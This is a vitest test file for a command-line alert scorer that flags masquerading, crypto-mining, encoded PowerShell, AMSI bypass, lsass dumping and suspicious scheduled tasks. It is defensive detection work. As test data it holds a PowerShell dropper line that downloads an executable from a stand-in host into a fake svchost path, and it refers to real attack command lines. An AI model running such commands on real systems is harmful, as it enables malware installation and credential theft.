/**
 * The verdict's own checks on real command lines: socbot's demo miner, the Empire launcher, the comsvcs lsass
 * dump and a remote SYSTEM scheduled task (Security-Datasets), and the encoded PowerShell of msticpy's FTP alert
 * host — plus hostile input.
 */
import { describe, expect, it } from 'vitest';
import { alertSignals, commandLineImage } from '../../../src/analysis/verdict/alert-signals.js';
import { scoreSignals } from '../../../src/analysis/verdict/score.js';
import { hasSharedData } from '../../helpers/shared-data.js';
import {
  benignServiceHost,
  empireLauncherFile,
  empireTaskFile,
  hostProcessesFile,
  lsassDumpFile,
  minerCommandLine,
  processTreeFile,
  realCommandLine,
  remoteTaskFile,
} from './real-command-lines.js';

const kindsOf = (input: Parameters<typeof alertSignals>[0]) => alertSignals(input).map((s) => s.kind);

describe('commandLineImage', () => {
  it('takes the quoted program, a path up to its extension, or the first word', () => {
    expect(commandLineImage('"C:\\Program Files\\a b\\c.exe" -x')).toBe('C:\\Program Files\\a b\\c.exe');
    expect(commandLineImage('C:\\Program Files\\a b\\c.exe -x')).toBe('C:\\Program Files\\a b\\c.exe');
    expect(commandLineImage(minerCommandLine)).toBe('c:\\w!ndows\\system32\\suchost.exe');
    expect(commandLineImage('.\\ftp  -s:c:\\recycler\\xxppyy.exe')).toBe('.\\ftp');
    expect(commandLineImage('')).toBeNull();
  });
});

describe('alertSignals', () => {
  it('the demo miner: masquerading (suchost ≈ svchost), odd path (w!ndows) and mining', () => {
    const signals = alertSignals({ commandLine: minerCommandLine });
    expect(signals.map((s) => [s.kind, s.weight])).toEqual([
      ['masquerading', 3],
      ['odd-path', 3],
      ['crypto-mining', 3],
    ]);
    expect(signals[2]?.evidence).toBe('-a cryptonight');
    expect(scoreSignals(signals).headline).toBe('Looks malicious: 3 strong signals');
  });

  it('a benign service host: no masquerading, one reassuring signal', () => {
    const signals = alertSignals({ imagePath: 'C:\\Windows\\System32\\svchost.exe', commandLine: benignServiceHost });
    expect(signals.map((s) => [s.kind, s.leaning])).toEqual([['expected-location', 'benign']]);
    expect(scoreSignals(signals).headline).toBe('Inconclusive: 1 reassuring signal, nothing suspicious');
  });

  it('a Windows tool copied to a user folder and run with a script (the FTP alert)', () => {
    expect(
      kindsOf({ imagePath: 'c:\\diagnostics\\usertmp\\ftp.exe', commandLine: '.\\ftp  -s:c:\\recycler\\xxppyy.exe' }),
    ).toEqual(['relocated-system-tool', 'suspicious-tool-use']);
  });

  it('checks other paths on the command line too (the dropper writing into c:\\w!ndows)', () => {
    const dropper = `powershell -nop -c "(New-Object Net.WebClient).DownloadFile('http://x.example.org/s.exe','c:\\w!ndows\\system32\\suchost.exe')"`;
    expect(kindsOf({ commandLine: dropper })).toEqual(['odd-path', 'suspicious-tool-use']);
  });

  it('hostile input: empty, 10 MB, binary and a nested base64 bomb answer quickly', () => {
    let bomb = 'Get-Process';
    for (let i = 0; i < 12; i++) bomb = Buffer.from(`echo ${bomb}`).toString('base64');
    const binary = Buffer.from(Array.from({ length: 1_000_000 }, (_, i) => (i * 7919) % 256)).toString('latin1');
    for (const commandLine of ['', null, 'A'.repeat(10_000_000), binary, `cmd /c ${bomb}`]) {
      const started = performance.now();
      const signals = alertSignals({ commandLine });
      expect(performance.now() - started).toBeLessThan(3_000);
      expect(Array.isArray(signals)).toBe(true);
    }
    expect(kindsOf({ commandLine: `cmd /c ${bomb}` })).toEqual(['encoded-command']);
    expect(kindsOf({ commandLine: binary })).toEqual([]);
  });
});

describe.skipIf(!hasSharedData)('alertSignals on real command lines', () => {
  it('Empire launcher (Security-Datasets): -enc decoded, AMSI bypass and download found inside', async () => {
    const line = await realCommandLine(empireLauncherFile, /-enc /);
    const imagePath = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const signals = alertSignals({ imagePath, commandLine: line });
    expect(signals.map((s) => s.reason)).toEqual([
      'powershell.exe runs from its usual Windows folder.',
      'The command line hides its real command in base64 (-enc).',
      'The command is obfuscated (backticks break up words; commands are glued from string pieces): it is written to dodge detection.',
      'PowerShell is told to hide its window or to bypass the execution policy.',
      'AMSI is switched off (amsiInitFailed): scripts then escape antivirus scanning (inside the encoded payload).',
      'The command downloads from the network (WebClient / Invoke-WebRequest) (inside the encoded payload).',
      'A string is run as code (Invoke-Expression / IEX) (inside the encoded payload).',
    ]);
    expect(signals[1]?.evidence).toMatch(/^If\(\$PSVERSiOnTaBlE\.PSVErSIOn\.MajOR -gE 3\)/);
    expect(scoreSignals(signals).headline).toBe('Looks malicious: 1 strong signal and 5 more');
  });

  it('comsvcs MiniDump of lsass (Security-Datasets): credential access', async () => {
    const line = await realCommandLine(lsassDumpFile, /comsvcs/);
    expect(line).toContain('comsvcs.dll MiniDump 756');
    const signals = alertSignals({ imagePath: 'C:\\Windows\\System32\\rundll32.exe', commandLine: line });
    expect(signals.map((s) => [s.kind, s.leaning])).toEqual([
      ['expected-location', 'benign'],
      ['credential-access', 'malicious'],
    ]);
    expect(scoreSignals(signals).outcome).toBe('malicious');
  });

  it('remote schtasks /create … /ru system (Security-Datasets)', async () => {
    const line = await realCommandLine(remoteTaskFile, /^schtasks/);
    expect(kindsOf({ imagePath: 'C:\\Windows\\System32\\schtasks.exe', commandLine: line })).toEqual([
      'expected-location',
      'suspicious-tool-use',
    ]);
  });

  it("Empire's userland schtasks: a FromBase64String loader in the task", async () => {
    const line = await realCommandLine(empireTaskFile, /schtasks/);
    const reasons = alertSignals({ commandLine: line }).map((s) => s.reason);
    expect(reasons).toContain('The command line hides its real command in base64 (FromBase64String).');
    expect(reasons).toContain(
      'schtasks creates a scheduled task that starts a script interpreter or decodes a payload.',
    );
  });

  it("the FTP alert host's encoded PowerShell (msticpy processes_on_host.csv) decodes", async () => {
    const line = await realCommandLine(hostProcessesFile, /-enc JAB0/);
    const encoded = alertSignals({ commandLine: line }).find((s) => s.kind === 'encoded-command');
    expect(encoded?.evidence).toBe("$t = 'dir'; & ('Invoke'+'-Expression') $t");
  });

  it('process_tree.csv holds the same row with its middle redacted: nothing left to decode', async () => {
    const line = await realCommandLine(processTreeFile, /-enc JAB0/);
    expect(line).toContain('****REDACTED-MALWARE-SIG****');
    expect(kindsOf({ commandLine: line })).not.toContain('encoded-command');
  });
});
